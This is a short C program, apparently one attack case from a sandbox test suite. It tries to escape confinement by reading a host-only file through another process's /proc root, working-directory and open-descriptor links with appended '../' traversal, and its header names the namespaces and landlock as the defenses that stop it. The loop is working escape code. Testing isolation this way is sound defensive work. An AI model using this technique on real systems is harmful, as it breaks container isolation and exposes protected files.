/* SPDX-License-Identifier: MIT */
/* Escapes to a file that only the host has, through the root, the working directory and the open
 * directories of another process in /proc.
 * Stopped by: pid_namespace with filesystem, user_namespace, landlock. */
#include "attack.h"

int main(int argc, char **argv)
{
    static const char *const doors[] = {"root", "cwd", "fd/0", "fd/3", "fd/4", "fd/5"};
    int pid = (int)argument_process(argc, argv, 1);
    const char *secret = argument(argc, argv, 2);
    char path[512], text[64];
    for (size_t i = 0; i < COUNT_OF(doors); i++) {
        const char *up = strcmp(doors[i], "root") == 0 ? "" : "/../../../../../../..";
        (void)snprintf(path, sizeof(path), "/proc/%d/%s%s%s", pid, doors[i], up, secret);
        if (read_file(path, text, sizeof(text)) > 0)
            succeeded("read %s", path);
        barred("%s", path);
    }
    all_barred();
}
